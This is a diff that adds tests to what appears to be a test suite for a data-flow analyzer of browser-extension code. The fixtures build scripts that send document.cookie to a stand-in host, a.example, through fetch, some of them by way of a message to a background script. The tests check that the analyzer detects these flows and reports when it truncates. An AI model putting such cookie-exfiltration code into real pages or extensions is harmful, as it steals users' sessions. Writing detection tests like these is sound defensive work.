@@ -362,6 +362,38 @@ describe('work', () => {
     expect(large.steps).toBeLessThanOrEqual(small.steps * 21);
   });
 
+  it('tells where data comes from, however many hand it to one function', async () => {
+    const thieves = (count: number): Example =>
+      sample({
+        content: `function send(x) { fetch("https://a.example/?" + x); } ${'send(document.cookie);'.repeat(count)}`,
+      });
+    for (const count of [20, 2500]) expect(await pairs(thieves(count))).toContain('page-cookies > network');
+  });
+
+  it('says when it left something out: more sources of one script than are followed', async () => {
+    const thieves = (count: number): Example =>
+      sample({ content: 'fetch("https://a.example/?" + document.cookie);'.repeat(count) });
+    const [some, many] = [await flows(thieves(1500)), await flows(thieves(6000))];
+    expect(some).toMatchObject({ whole: true });
+    expect(some.flows).toHaveLength(1500);
+    expect(many).toMatchObject({ whole: false });
+    expect(many.flows).toHaveLength(2000);
+  });
+
+  it('says when it left something out: more receivers of messages than are followed', async () => {
+    const talk = (count: number): Example =>
+      sample({
+        content: 'chrome.runtime.sendMessage(document.cookie);'.repeat(count),
+        background: 'chrome.runtime.onMessage.addListener((m) => { fetch("https://a.example", { body: m }); });'.repeat(
+          count,
+        ),
+      });
+    const [some, many] = [await flows(talk(20)), await flows(talk(1000))];
+    expect(some).toMatchObject({ whole: true });
+    expect(many).toMatchObject({ whole: false });
+    expect(many.flows.length).toBeGreaterThan(500);
+  });
+
   it('does not follow data that is only looked at', async () => {
     const looks =
       'if (t.url === "") n++; if (t.url.length > 3) n--; const kept = t.url; let other = kept; t.index + 1; t.id.x;';
